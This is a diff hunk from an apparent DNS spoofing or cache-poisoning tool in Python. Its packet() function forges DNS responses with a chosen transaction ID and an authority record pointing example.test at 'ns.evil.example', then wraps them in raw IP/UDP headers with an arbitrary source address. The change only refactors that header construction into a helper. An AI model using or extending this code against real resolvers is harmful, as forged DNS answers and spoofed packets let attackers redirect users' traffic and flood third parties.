@@ -48,15 +48,7 @@ def packet(src, dst, sport, dport, txid):
     ns = name("example.test") + struct.pack("!HHIH", 2, 1, 86400, len(name("ns.evil.example")))
     ns += name("ns.evil.example")
     dns = struct.pack("!HHHHHH", txid, 0x8580, 1, 1, 1, 0) + q + ans + ns
-    udp_len = 8 + len(dns)
-    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
-    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + dns
-    csum = checksum(pseudo + udp) or 0xFFFF
-    udp = struct.pack("!HHHH", sport, dport, udp_len, csum) + dns
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randrange(65536), 0, 64, 17,
-                     0, socket.inet_aton(src), socket.inet_aton(dst))
-    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
-    return ip + udp
+    return udp_ip(src, dst, sport, dport, dns)
 
 
 TYPES = {"ANY": 255, "TXT": 16, "DNSKEY": 48, "A": 1}
